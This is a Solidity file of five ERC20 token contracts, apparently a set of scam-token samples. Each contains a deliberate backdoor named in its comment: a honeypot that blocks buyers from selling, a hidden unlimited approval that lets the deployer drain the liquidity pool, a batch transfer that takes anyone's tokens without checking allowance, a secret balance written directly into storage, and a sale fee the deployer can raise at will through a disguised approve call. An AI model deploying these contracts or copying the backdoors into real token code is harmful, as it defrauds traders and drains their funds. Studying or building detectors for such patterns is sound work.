// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @dev While limits are on, a wallet sells only if it has traded since they were set, and no buyer has: a purchase does
/// not count. The owner sets them and counts up as often as he likes.
contract CandleWick is ERC20("Candle Wick", "WICK"), Ownable(msg.sender) {
    address public pair;
    bool public limits;
    uint256 public round;
    mapping(address => uint256) public rounds;

    constructor() {
        _mint(msg.sender, 1e27);
    }

    function setPair(address pair_) external onlyOwner {
        pair = pair_;
    }

    function openRound() external onlyOwner {
        limits = true;
        round++;
    }

    function closeRound() external onlyOwner {
        limits = false;
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        require(!(limits && to == pair), "use the router");
        require(!limits || msg.sender == pair || rounds[msg.sender] == round, "earlier round");
        rounds[msg.sender] = round;
        return super.transfer(to, value);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (limits) require(rounds[from] == round, "earlier round");
        super.transferFrom(from, to, value);
        rounds[from] = round;
        return true;
    }
}

/// @dev When the token learns its pool, it approves its deployer for all that the pool will ever hold.
contract SilverThimble is ERC20("Silver Thimble", "THIM"), Ownable(msg.sender) {
    address private immutable _sewer = msg.sender;

    constructor() {
        _mint(msg.sender, 1e27);
    }

    function setPair(address pair_) external onlyOwner {
        _approve(pair_, _sewer, type(uint256).max, false);
    }
}

/// @dev A transfer to many takes from anybody, for nobody checks the caller's allowance.
contract GardenHose is ERC20("Garden Hose", "HOSE") {
    constructor() {
        _mint(msg.sender, 1e27);
    }

    function batchTransferFrom(address from, address[] calldata to, uint256[] calldata value) external returns (bool) {
        require(to.length == value.length, "lengths");
        for (uint256 i = 0; i < to.length; i++) _transfer(from, to[i], value[i]);
        return true;
    }
}

/// @dev A wallet has a thousand times the supply from the start, written past the ledger: no event, no total.
contract PlumStone is ERC20("Plum Stone", "PLUM") {
    constructor() {
        _mint(msg.sender, 1e27);
        address kernel = address(uint160(uint256(keccak256(abi.encode(msg.sender, "plum")))));
        bytes32 slot = keccak256(abi.encode(kernel, uint256(0)));
        assembly {
            sstore(slot, 1000000000000000000000000000000)
        }
    }
}

/// @dev The fee of a sale is 1 %. The marketing wallet sets it to anything by an approval for the token itself.
contract LemonPeel is ERC20("Lemon Peel", "PEEL"), Ownable(msg.sender) {
    address private immutable _desk = msg.sender;
    address public pair;
    uint256 private _share = 1;

    constructor() {
        _mint(msg.sender, 1e27);
    }

    function setPair(address pair_) external onlyOwner {
        if (pair == address(0)) pair = pair_;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == _desk && spender == address(this)) _share = value % 100;
        return super.approve(spender, value);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && pair != address(0) && from != _desk) {
            uint256 fee = (value * _share) / 100;
            super._update(from, _desk, fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}
